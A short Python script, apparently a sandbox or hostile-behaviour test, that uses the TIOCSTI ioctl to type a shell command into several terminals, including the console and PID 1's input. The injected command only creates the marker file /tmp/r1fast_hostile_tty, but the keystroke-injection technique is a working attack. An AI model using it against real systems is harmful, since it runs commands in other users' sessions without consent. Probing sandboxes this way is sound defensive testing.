# TIOCSTI puts words into the terminal of whoever started the run.
import fcntl
import os
import termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/proc/1/fd/0"):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        for byte in b"touch /tmp/r1fast_hostile_tty\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([byte]))
    except OSError:
        pass
